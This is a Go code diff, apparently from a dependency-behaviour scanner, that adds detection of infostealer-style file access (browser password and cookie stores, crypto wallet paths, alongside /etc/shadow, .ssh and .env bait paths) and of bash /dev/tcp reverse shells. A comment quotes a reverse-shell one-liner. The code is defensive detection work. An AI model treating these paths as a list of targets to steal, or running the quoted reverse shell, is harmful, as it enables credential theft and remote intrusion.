@@ -273,6 +273,15 @@ var baitSuffixes = []string{
 	"/etc/shadow", "/etc/gshadow", "/.env",
 }
 
+// Infostealers sweep browsers' credential stores (saved passwords, cookies
+// and the key that decrypts them) and cryptocurrency wallets: a store's
+// file name inside a browser's profile directory, or a wallet path.
+var (
+	browserDirs   = []string{"/google-chrome/", "/chromium/", "/BraveSoftware/", "/microsoft-edge/", "/opera/", "/vivaldi/", "/.mozilla/firefox/"}
+	browserStores = []string{"Login Data", "Login Data For Account", "Cookies", "Local State", "Web Data", "logins.json", "key4.db", "cookies.sqlite"}
+	walletPaths   = []string{"/.electrum/wallets/", "/.bitcoin/wallet.dat", "/.ethereum/keystore/", "/exodus.wallet/", "/.config/solana/id.json"}
+)
+
 // procSecretRE: another process's environment or memory (the profile
 // masks pids as PID and TID).
 var procSecretRE = regexp.MustCompile(`^/proc/([0-9]+|PID|self|thread-self)(/task/([0-9]+|TID|self))?/(environ|mem)$`)
@@ -286,6 +295,12 @@ func IsBaitPath(p string) bool {
 		}
 	}
 	base := path.Base(p)
+	if slices.Contains(browserStores, base) && slices.ContainsFunc(browserDirs, func(d string) bool { return strings.Contains(p, d) }) {
+		return true
+	}
+	if slices.ContainsFunc(walletPaths, func(w string) bool { return strings.Contains(p+"/", w) }) {
+		return true
+	}
 	return strings.Contains(p, "/.ssh/") || strings.HasPrefix(base, ".env.") || procSecretRE.MatchString(p)
 }
 
@@ -550,12 +565,21 @@ func suspiciousProcess(p profile.Process) string {
 	return ""
 }
 
+// netRedirect reports whether a shell's script opens a connection itself
+// through bash's /dev/tcp or /dev/udp (`bash -i >& /dev/tcp/host/port 0>&1`):
+// a reverse shell or a beacon, never merely how a lifecycle script is run.
+// Its interactive shell would start only once the connection succeeds, so
+// the script's shell is all there is to judge.
+func netRedirect(p profile.Process) bool {
+	return len(p.Argv) == 3 && (strings.Contains(p.Argv[2], "/dev/tcp/") || strings.Contains(p.Argv[2], "/dev/udp/"))
+}
+
 func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile.Behavior) {
 	parts(b, func(b *profile.Behavior, un bool) {
 		var vals, kinds []string
 		for _, p := range b.Processes {
 			why := suspiciousProcess(p)
-			if why == "" || (phase == profile.PhaseInstall && (scriptRunner(p) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
+			if why == "" || (phase == profile.PhaseInstall && ((scriptRunner(p) && !netRedirect(p)) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
 				continue
 			}
 			vals = append(vals, processValue(p))
